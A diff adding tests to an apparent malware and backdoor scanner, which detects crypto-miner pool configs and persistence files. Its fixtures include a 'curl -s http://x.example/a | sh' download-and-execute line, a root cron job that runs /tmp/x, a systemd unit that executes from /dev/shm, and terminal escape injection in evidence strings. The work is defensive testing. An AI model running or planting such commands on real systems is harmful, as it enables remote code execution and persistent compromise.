@@ -321,3 +321,21 @@ def test_pool_config_negatives_and_weak_form():
     assert run(MinerPoolConfig(), "/srv/app/package.json", b'{"name": "x", "version": "1.0.0", "url": "y"}') == []
     weak = run(MinerPoolConfig(), "/srv/app/db.json", b'{"pools": [{"url": "db.internal:5432", "user": "app"}]}')
     assert ids(weak) == {"miner.monero.pool-config": "medium"}
+
+
+# -- hostile input -------------------------------------------------------------------------------
+
+def test_evidence_from_the_image_is_terminal_safe():
+    found = run(PersistenceFiles(), "/etc/cron.d/x", b"* * * * * root /tmp/x \x1b[2J\x1b]0;pwned\x07\n")
+    assert ids(found) == {"backdoor.persistence.temp-exec": "high"}
+    assert "\x1b" not in found[0].evidence and "\x07" not in found[0].evidence and "\\x1b" in found[0].evidence
+
+
+def test_padded_lines_are_still_read_to_the_end():
+    """Megabyte-scale lines built to make naive regexes backtrack: the payload after them is still found."""
+    padding = b"curl x && chmod +x y " * 10000 + b"sh -a " * 10000
+    found = run(PersistenceFiles(), "/etc/profile.d/pad.sh", padding + b"; curl -s http://x.example/a | sh\n")
+    assert ids(found).get("backdoor.persistence.download-exec") == "high"
+    long_cmd = b"ExecStart=" + b"'" * 50000 + b"\nExecStart=/dev/shm/.k/x\n"
+    assert ids(run(PersistenceFiles(), "/etc/systemd/system/a.service", long_cmd)) == {
+        "backdoor.persistence.temp-exec": "high"}
